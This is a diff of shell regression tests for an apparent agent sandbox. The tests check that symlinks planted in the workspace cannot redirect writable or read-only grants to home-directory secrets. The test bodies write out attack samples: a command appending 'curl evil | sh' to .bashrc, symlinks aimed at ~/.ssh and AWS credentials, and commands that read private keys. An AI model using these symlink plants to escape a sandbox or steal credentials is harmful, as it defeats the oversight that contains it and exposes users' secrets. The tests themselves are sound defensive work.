@@ -152,3 +152,59 @@ t_real_protected_dirs_run_normally() { # neighbour of the refusals
 	expect_rc 0 "a repo with real .git/hooks"
 	expect_out "RAN" "the command ran"
 }
+
+# --- symlinks planted where a grant's bind mount lands -------------------------------
+# A grant (--read-only, --writable-root) whose path goes through a symlink
+# inside the workspace could have been redirected by an earlier run: refused.
+
+t_planted_writable_root_symlink_refused() {
+	mkdir -p "$WS/build/out"
+	sbp --writable-root "$WS/build/out" -- true
+	expect_rc 0 "a real writable root inside the workspace"
+	rm -rf "$WS/build/out"
+	ln -s "$FAKE_HOME" "$WS/build/out" # what the agent leaves for the next run
+	sbp --writable-root "$WS/build/out" -- sh -c "echo RAN; echo 'curl evil | sh' >> build/out/.bashrc"
+	_expect_refused "--writable-root through a planted symlink"
+	expect_err "symlink inside the writable" "names the planted symlink"
+	expect_true test "$(cat "$FAKE_HOME/.bashrc")" = "export OK=1"
+}
+
+t_planted_writable_root_parent_symlink_refused() {
+	mkdir -p "$WS/real"
+	ln -s "$FAKE_HOME" "$WS/link"
+	sbp --writable-root "$WS/link/.config" -- sh -c "echo RAN"
+	_expect_refused "--writable-root below a planted symlink"
+}
+
+t_planted_read_only_symlink_refused() {
+	ln -s "$FAKE_HOME/.ssh" "$WS/docs"
+	sbp --read-only "$WS/docs" -- sh -c "echo RAN; cat docs/id_rsa"
+	_expect_refused "--read-only through a planted symlink"
+	expect_not_out "SECRET-SSH-KEY" "the key"
+}
+
+t_symlinked_grant_outside_workspace_works() { # neighbour: the user's own symlinks
+	local d; d=$(mktemp -d "$RF_TEST_TMP/real.XXXXXX")
+	echo shared >"$d/file"
+	ln -s "$d" "$FAKE_HOME/shared-link"
+	sbp --read-only "$FAKE_HOME/shared-link" -- cat "$d/file"
+	expect_rc 0 "a grant through a symlink the sandbox cannot write"
+	expect_out "shared" "content"
+}
+
+t_symlinked_secret_covered_where_it_points() {
+	mkdir -p "$FAKE_HOME/vault/aws"
+	echo SECRET-REAL-AWS >"$FAKE_HOME/vault/aws/credentials"
+	rm -rf "$FAKE_HOME/.aws"
+	ln -s "$FAKE_HOME/vault/aws" "$FAKE_HOME/.aws"
+	sbp -- sh -c 'cat ~/.aws/credentials; cat ~/vault/aws/credentials'
+	expect_not_out "SECRET-REAL-AWS" "a hidden path that is a symlink: its target"
+}
+
+t_cache_symlinked_to_secret_no_content() {
+	rm -rf "$FAKE_HOME/.cache"
+	ln -s "$FAKE_HOME/.ssh" "$FAKE_HOME/.cache"
+	sbp -- sh -c 'cat ~/.cache/id_rsa; ls ~/.cache'
+	expect_not_out "SECRET-SSH-KEY" "a package cache path pointing at a secret"
+	expect_not_out "id_rsa" "listing"
+}
